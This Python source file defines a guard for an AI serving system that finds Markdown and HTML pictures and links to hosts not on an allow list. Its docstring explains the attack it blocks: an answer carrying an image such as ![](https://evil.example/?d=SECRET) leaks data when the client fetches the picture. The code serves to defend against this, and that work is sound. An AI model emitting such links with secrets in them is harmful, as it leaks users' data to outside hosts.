"""Links and pictures that carry data out: an answer that shows ![](https://evil.example/?d=SECRET) sends it,
because the client's page fetches the picture by itself.

Found are addresses of hosts that are not allowed: in Markdown's pictures, links and references, in HTML's src
and href, and, with `kinds: all`, bare ones. Not covered: a host that is allowed and passes on what it gets,
and names that a client makes links of by itself (www.example)."""

import re
from collections.abc import Sequence
from typing import Annotated, Literal
from urllib.parse import urlsplit

from pydantic import Field

from finewright.schema.common import Model, default
from finewright_serve.guards.guard import (
    BOTH_WAYS,
    Finding,
    GuardFolder,
    GuardPlugin,
    PlainGuard,
    TextPlace,
    last_word,
)

_LONGEST = 4096
"""Of an address: browsers and servers take little more; a longer one is found once it has so many
characters."""
_ADDRESS = r"(?:[a-zA-Z][a-zA-Z0-9+.-]{0,20}:)?//[^\s<>\"'`)\]]{1,4096}"
_PICTURE = re.compile(
    rf"!\[[^\]\n]{{0,400}}\]\(\s*<?({_ADDRESS})[^)\n]{{0,400}}\)?|<img\b[^>]{{0,400}}?\bsrc\s*=\s*[\"']?({_ADDRESS})[^>]{{0,400}}>?",
    re.IGNORECASE,
)
_LINK = re.compile(
    rf"(?<!!)\[[^\]\n]{{0,400}}\]\(\s*<?({_ADDRESS})[^)\n]{{0,400}}\)?|^\s{{0,3}}\[[^\]\n]{{1,400}}\]:\s*<?({_ADDRESS})"
    rf"|\b(?:href|src|action|data)\s*=\s*[\"']?({_ADDRESS})",
    re.IGNORECASE | re.MULTILINE,
)
_BARE = re.compile(r"\b[a-zA-Z][a-zA-Z0-9+.-]{1,20}://[^\s<>\"'`)\]]{1,4096}")
_LABEL, _OPEN = re.compile(r"\[[^\]\n]*\]?"), re.compile(r"[^)\n]*")
Host = Annotated[str, Field(pattern=r"^(\*\.)?[a-z0-9.-]{1,253}$")]


class LinksSettings(Model):
    """Which hosts may be named."""

    allow: tuple[Host, ...] = default(
        (), "Hosts whose addresses may leave; *.example.com is each below it", "no host"
    )
    kinds: Literal["pictures", "links", "all"] = default(
        "links",
        "Pictures alone; links too; or also addresses that stand bare",
        "a picture is fetched at once, a link by one click",
    )


class Links(PlainGuard):
    """The guard. `opening` is a link, a tag or a word that has not ended."""

    window = 8

    def __init__(self, settings: LinksSettings, folder: GuardFolder) -> None:
        self._allow = settings.allow
        patterns = {
            "pictures": [_PICTURE],
            "links": [_PICTURE, _LINK],
            "all": [_PICTURE, _LINK, _BARE],
        }
        self._patterns = patterns[settings.kinds]

    def find(self, text: str, place: TextPlace) -> Sequence[Finding]:
        """Each address of another host, with the Markdown or HTML around it."""
        if "//" not in text:
            return []
        found: list[Finding] = []
        for pattern in self._patterns:
            what = "picture" if pattern is _PICTURE else "link"
            for match in pattern.finditer(text):
                address = next(filter(None, match.groups()), match[0])
                start, end = match.span()
                is_fresh = all(end <= each.start or each.end <= start for each in found)
                if is_fresh and not self._is_allowed(address):
                    found.append(Finding(start, end, what))
        return sorted(found)

    def opening(self, text: str) -> int:
        """See Guard."""
        at = max(0, len(text) - 2 * _LONGEST)
        found = [last_word(text, _LONGEST)]
        label = text.rfind("[", at)
        if label >= 0 and _LABEL.fullmatch(text, label):
            found.append(label)
        target = text.rfind("](", at)
        if target >= 0 and _OPEN.fullmatch(text, target + 2):
            found.append(max(at, text.rfind("[", at, target)))
        tag = text.rfind("<", at)
        if tag >= 0 and text.find(">", tag) < 0:
            found.append(tag)
        start = min(found)
        return start - (start > 0 and text[start - 1] == "!")

    def _is_allowed(self, address: str) -> bool:
        try:
            host = (urlsplit(address).hostname or "").rstrip(".")
        except ValueError:
            return False
        return any(
            host == each or (each.startswith("*.") and host.endswith(each[1:]))
            for each in self._allow
        )


GUARD = GuardPlugin(LinksSettings, Links, BOTH_WAYS)
